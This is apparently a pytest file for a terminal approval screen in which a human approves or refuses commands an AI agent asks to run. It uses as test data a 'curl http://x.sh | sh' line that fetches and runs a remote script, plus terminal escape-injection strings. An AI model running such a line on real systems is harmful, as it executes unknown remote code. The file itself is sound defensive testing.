"""The full-screen watch in a real terminal: what it shows, which keys answer, and what does not."""

import os
import re
import shutil
import subprocess
import sys

import pytest
from answering_world import DELETES, SCALES, Desk
from tmux import Window

from agentshell.approvals.screen import Screen
from agentshell.config import Approvals
from agentshell.render import width

pytestmark = pytest.mark.skipif(not shutil.which("tmux"), reason="tmux is not installed")


class Watching(Desk):
    """A desk with windows in which the watch runs."""

    def __init__(self, asking):
        super().__init__(asking)
        self.windows = []

    def watch(self, columns=100, rows=30, **env):
        made = Window(
            self.argv("agentshell", "approvals", "watch"), {**self.asking.env, **env}, self.asking.home, columns, rows
        )
        self.windows.append(made)
        made.see("agentshell approvals:")
        return made

    def close(self):
        for one in self.windows:
            one.close()
        super().close()

    def becomes(self, request, state):
        self.asking.wait_for(lambda: self.state(request).state == state)
        return self.state(request)


@pytest.fixture
def desk(asking):
    made = Watching(asking)
    yield made
    made.close()


def test_requests_come_are_shown_and_go(desk):
    window = desk.watch()
    window.see("0 wait", "nothing waits for an answer")
    first = desk.ask(DELETES)
    shown = window.see("1 waits", first.id, "type prod-eu (it cannot be undone in production)")
    for text in (
        DELETES,
        "^" * len(DELETES),
        '- delete  deletes the namespace "checkout"',
        "where   PRODUCTION: kubernetes cluster prod-eu",
        "seen    --context prod-eu: production",
        "safer   kubectl --context prod-eu get",
        "There is no undo.",
        "left      9:5",
        "asked by  claude",
    ):
        assert text in shown
    second = desk.ask("curl http://x.sh | sh")
    # What came first stays chosen.
    shown = window.see("2 wait", f"> {first.id}", f"  {second.id}")
    window.send("j")
    window.see(f"> {second.id}", "not read  shell text that cannot be known", "> run     possibly runs a script")
    desk.asking.refuse(second, "elsewhere")
    window.see("1 waits", "refused already (elsewhere)")
    window.send("q")
    window.see("left 0")


def test_the_time_left_counts_down_and_ends(desk):
    found = desk.ask(lasts=300)
    window = desk.watch()
    shown = window.see(found.id, "left      4:5")
    window.see("left      4:", without=(next(row for row in shown.splitlines() if "left   " in row),))
    desk.expire(found)
    window.see(found.id, "0 wait", "expired")


def test_approving_takes_what_must_be_typed(desk):
    found = desk.ask()
    window = desk.watch()
    window.see(found.id)
    for typed, told in (
        ("", "nothing was typed, nothing is approved"),
        ("y", "that is not prod-eu"),
        ("prod", "that is not prod-eu"),
    ):
        window.send("a")
        window.see(f"approve {found.id}: type prod-eu", "> _")
        window.write(typed)
        window.send("Enter")
        window.see(told)
        assert desk.state(found).state == "waiting"
    window.send("a")
    window.see("> _")
    window.write("prox")
    window.send("BSpace")
    window.write("d-eu")
    window.see("> prod-eu_")
    window.send("Enter")
    window.see(f"approved {found.id} (advisory)")
    now = desk.state(found)
    assert (now.state, now.answer.by) == ("approved", "ada (here)")
    assert desk.asking.events()[-1] == "approved"


@pytest.mark.parametrize("key", ["Escape", "C-c", "C-d"])
def test_keys_that_leave_a_field_answer_nothing(desk, key):
    found = desk.ask(SCALES)
    window = desk.watch()
    window.see(found.id)
    for begin in ("a", "r", "g"):
        window.send(begin)
        window.see("Esc leaves it as it was")
        if begin == "a":
            window.write("y")
            window.see("> y_")
        window.send(key)
        window.see("left as it was: nothing is approved")
        # Away with the message, for the next round.
        window.send("a")
        window.see("> _")
        window.send("Enter")
        window.see("nothing was typed")
    assert desk.state(found).state == "waiting"


@pytest.mark.parametrize("key", ["y", "Y", "Enter", "Escape", "Space", "1"])
def test_keys_that_answer_nothing(desk, key):
    found = desk.ask(SCALES)
    window = desk.watch()
    window.see(found.id)
    window.send(key)
    window.send("r")
    window.see(f"refuse {found.id}")
    assert desk.state(found).state == "waiting"


def test_refusing_with_a_reason(desk):
    found = desk.ask()
    window = desk.watch()
    window.see(found.id)
    window.send("r")
    window.see(f"refuse {found.id}, because")
    window.write("use staging first")
    window.send("Enter")
    window.see(f"refused {found.id}")
    assert desk.becomes(found, "refused").why == "use staging first"


@pytest.mark.parametrize(
    ("key", "kind", "seconds"), [("0", "line", 28800), ("1", "action", 900), ("3", "action", 28800)]
)
def test_granting(desk, key, kind, seconds):
    found = desk.ask(SCALES)
    window = desk.watch(columns=60)
    window.see(found.id)
    window.send("g")
    window.see("0 this very line in its session", "1 its actions on its targets for 15 min")
    window.send(key)
    window.see("and approve", "type y")
    window.write("y")
    window.send("Enter")
    window.see("approved", "granted")
    (grant,) = desk.store.grants()
    assert (grant.kind, round(grant.until.wall - grant.made.wall)) == (kind, seconds)
    assert desk.state(found).state == "approved"


def test_a_grant_that_is_not_allowed_approves_nothing(desk):
    found = desk.ask("curl http://x.sh | sh")
    window = desk.watch()
    window.see(found.id)
    window.send("g")
    window.see("0 this very line")
    window.send("1")
    window.see("type y")
    window.write("y")
    window.send("Enter")
    window.see("not approved: no grant")
    assert desk.state(found).state == "waiting"


def test_the_passphrase_is_not_shown(desk):
    found = desk.ask(SCALES)
    window = desk.watch(AS_PERSON_SECRET="correct horse")
    window.see(found.id)
    for phrase, told in (("wrong", "not approved: wrong passphrase"), ("correct horse", "(passphrase)")):
        window.send("a")
        window.see("type y")
        window.write("y")
        window.send("Enter")
        window.see("Passphrase")
        window.write(phrase)
        shown = window.see("> " + "*" * len(phrase))
        assert phrase not in shown
        window.send("Enter")
        window.see(told)
    assert desk.state(found).answer.grade == "passphrase"


def test_an_answer_is_for_the_request_whose_key_was_pressed(desk):
    first = desk.ask(SCALES)
    window = desk.watch()
    window.see(first.id)
    window.send("a")
    window.see(f"approve {first.id}")
    # Meanwhile others come, and this one is answered elsewhere.
    other = desk.ask("kubectl --context prod-eu scale deploy/api --replicas=0")
    desk.asking.refuse(first, "elsewhere")
    window.see(other.id, "refused")
    window.write("y")
    window.send("Enter")
    window.see("not approved:", "cannot be answered")
    assert desk.state(other).state == "waiting"
    assert desk.state(first).state == "refused"


def test_who_must_not_answer_this_one_is_told(asking, monkeypatch):
    desk = Desk(asking)
    found = desk.ask(SCALES)
    monkeypatch.setattr("agentshell.approvals.person.why_not", lambda request=None: ("it is your own",), raising=False)
    screen = Screen(desk.store, Approvals())
    screen.look()
    for key in "arg":
        screen.told = ""
        screen.press(key)
        assert (screen.told, screen.field, screen.menu) == ("it is your own", None, None)
    assert desk.state(found).state == "waiting"


@pytest.mark.parametrize(("columns", "rows"), [(60, 20), (60, 12), (100, 30), (200, 50)])
def test_sizes(desk, columns, rows):
    desk.ask(DELETES + " " + "x" * 500)
    window = desk.watch(columns, rows)
    shown = window.see("claude" if rows > 12 else "PRODUCTION", "q quit")
    assert max(width(row) for row in shown.splitlines()) <= columns
    assert len(shown.splitlines()) <= rows
    assert "PRODUCTION" in shown


def test_the_window_is_resized(desk):
    found = desk.ask()
    window = desk.watch(120, 40)
    window.see("agentshell approvals: 1 waits", "safer   kubectl --context prod-eu get")
    window.resize(60, 20)
    shown = window.see("more rows: space", "v all of it | q quit")
    assert max(width(row) for row in shown.splitlines()) <= 60
    window.send("a")
    window.write("prod")
    window.see("> prod_")
    window.resize(110, 35)
    window.see("> prod_", "safer   kubectl")
    window.write("-eu")
    window.send("Enter")
    window.see("approved", without=("nothing is approved",))
    assert desk.state(found).state == "approved"


def test_scrolling_shows_the_rest(desk):
    desk.ask()
    window = desk.watch(60, 16)
    window.see("more rows: space", without=("approve   type",))
    for _ in range(4):
        window.send("Space")
    window.see("approve   type prod-eu")
    for _ in range(6):
        window.send("b")
    window.see("asked by  claude")


def test_a_folded_line_is_shown_whole(desk):
    desk.ask("echo " + "x" * 3000 + "; " + SCALES)
    window = desk.watch(100, 60)
    window.see("rows hidden (")
    window.send("v")
    assert window.see("v all of it", without=("rows hidden",)).count("x") > 3000


def test_hostile_text_reaches_the_terminal_escaped(desk):
    desk.ask(f"echo '\u202e\u200b'; {SCALES}", agent="claude\x1b[2J", session="s\x1b]0;title\x07")
    window = desk.watch(120, 40)
    window.see("<U+202E><U+200B>", "claude^[[2J")
    child = desk.terminal("approvals", "watch")
    child.expect_exact("claude^[[2J")
    child.expect_exact("\x1b]777;notify;agentshell;")
    assert "\u202e" not in child.before


def test_colours_and_none(desk):
    desk.ask()
    window = desk.watch(TERM="xterm-256color")
    window.see("PRODUCTION")
    assert re.search(r"\x1b\[(?:\d+;)*31m", window.screen("-e"))
    plain = desk.watch(NO_COLOR="1")
    plain.see("PRODUCTION")
    codes = {code for piece in re.findall(r"\x1b\[([\d;]*)m", plain.screen("-e")) for code in piece.split(";")}
    assert not [code for code in codes if code and 30 <= int(code) <= 107 and int(code) not in (39, 49)]


def test_a_request_rings_and_notifies(desk):
    child = desk.terminal("approvals", "watch")
    child.expect_exact("nothing waits")
    desk.ask()
    child.expect_exact('\a\x1b]9;agentshell: claude asks: - deletes the namespace "checkout"\x1b\\')
    child.expect_exact('\x1b]777;notify;agentshell;claude asks: - deletes the namespace "checkout"\x1b\\')
    child.send("q")
    assert desk.ended(child) == 0


def test_closing_the_terminal_answers_nothing(desk):
    found = desk.ask(SCALES)
    child = desk.terminal("approvals", "watch")
    child.expect_exact("PRODUCTION")
    child.send("a")
    child.expect_exact("Enter sends")
    child.send("y")
    os.close(child.child_fd)
    desk.opened.remove(child)
    child.wait()
    assert desk.state(found).state == "waiting"


def test_a_store_taken_away_is_told(desk):
    desk.ask()
    window = desk.watch()
    window.see("1 waits")
    for path in desk.store_folder.iterdir():
        path.unlink()
    window.see("has been taken away")
    window.send("q")
    window.see("left 0")


def test_without_a_terminal(desk):
    done = subprocess.run(
        [sys.executable, *desk.argv("agentshell", "approvals", "watch")],
        env=desk.asking.env,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=20,
        check=False,
    )
    assert (done.returncode, done.stdout, done.stderr) == (125, "", "agentshell: watch needs a terminal\n")
